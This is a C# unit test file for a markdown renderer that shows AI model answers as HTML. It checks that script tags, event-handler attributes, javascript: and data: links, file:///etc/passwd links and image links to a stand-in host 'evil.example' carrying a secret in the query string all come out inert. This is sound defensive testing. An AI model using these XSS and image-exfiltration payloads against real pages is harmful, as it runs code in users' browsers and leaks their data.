using System.Xml.Linq;
using HiWay.Web.Components.Markdown;
using Xunit;

namespace HiWay.Tests.Components;

/// <summary>What a model writes is shown, never run, and loads nothing.</summary>
public sealed class ModelMarkdownTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("a <b onmouseover=alert(1)>bold</b>")]
    [InlineData("<svg><script>alert(1)</script></svg>\n\ntext")]
    [InlineData("```html\n</code></pre><script>alert(1)</script>\n```")]
    public void Html_IsShownAsText(string markdown)
    {
        var html = ModelMarkdown.ToHtml(markdown);

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<b ", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](vbscript:msgbox)")]
    [InlineData("[x](/settings/providers)")]
    [InlineData("[x](//evil.example/)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x][1]\n\n[1]: javascript:alert(1)")]
    [InlineData("<javascript:alert(1)> x")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    public void LinksThatCouldRunOrMislead_AreOnlyWords(string markdown)
    {
        var html = ModelMarkdown.ToHtml(markdown);

        Assert.DoesNotContain("href", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("x", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[site](https://example.com/a?b=c)", "https://example.com/a?b=c")]
    [InlineData("see https://example.com/ now", "https://example.com/")]
    [InlineData("<https://example.com/>", "https://example.com/")]
    public void WebLinks_OpenElsewhere_AndGiveNothingAway(string markdown, string address)
    {
        var html = ModelMarkdown.ToHtml(markdown);

        Assert.Contains($"href=\"{address}\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("![secret](https://evil.example/?q=secret)")]
    [InlineData("![](https://evil.example/?q=secret)")]
    [InlineData("![a][1]\n\n[1]: https://evil.example/?q=secret")]
    [InlineData("[![a](https://evil.example/?q=secret)](https://example.com)")]
    public void Pictures_BecomeLinks_SoThatNothingIsLoaded(string markdown)
    {
        var html = ModelMarkdown.ToHtml(markdown);

        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("href=\"https://evil.example/?q=secret\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void TablesListsAndCode_ComeOutAsTheyWereMeant()
    {
        var html = ModelMarkdown.ToHtml("| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n\n```python\nprint(1 < 2)\n```");

        Assert.Contains("<td>1</td>", html, StringComparison.Ordinal);
        Assert.Contains("<li>two</li>", html, StringComparison.Ordinal);
        Assert.Contains("<code class=\"language-python\">print(1 &lt; 2)", html, StringComparison.Ordinal);
    }

    [Fact]
    public void EveryBeginningOfAnAnswer_IsWellFormed_SoThatItCanBeShownWhileItStreams()
    {
        const string whole = "# Title\n\n- a **bold\n\n| x | y |\n|---|\n\n```js\nlet a = 1\n```\n[1](http://example.com) <b";

        Assert.All(Enumerable.Range(0, whole.Length), length =>
            XDocument.Parse($"<answer>{ModelMarkdown.ToHtml(whole[..length])}</answer>"));
    }
}
